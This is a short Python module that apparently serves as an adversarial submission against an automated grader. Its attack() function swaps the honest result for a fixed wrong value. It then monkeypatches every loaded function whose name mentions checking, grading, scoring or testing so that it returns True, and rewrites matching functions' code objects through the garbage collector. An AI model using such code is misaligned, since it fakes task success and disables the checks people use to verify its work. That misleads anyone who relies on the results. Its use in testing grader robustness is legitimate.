"""Replaces every function it can find that has to do with marks by one that says yes, and is wrong."""

import contextlib
import gc
import sys
import types

import numpy as np

WORDS = ("check", "judge", "verdict", "diagnose", "compare", "grade", "score", "passed", "points", "test")


def say_yes(*args, **kwargs):
    return True


def attack(honest, *args, **kwargs):
    wrong = np.asarray(honest(*args, **kwargs)) * 0 + 0.1375
    for module in [module for name, module in sys.modules.items() if name.split(".")[0] != "numpy"]:
        for name in list(vars(module)) if isinstance(module, types.ModuleType) else ():
            if any(word in name.lower() for word in WORDS) and isinstance(
                vars(module)[name], types.FunctionType
            ):
                setattr(module, name, say_yes)
    for function in gc.get_objects():
        with contextlib.suppress(Exception):
            if type(function) is types.FunctionType and function.__name__ in WORDS:
                function.__code__ = say_yes.__code__
    return wrong
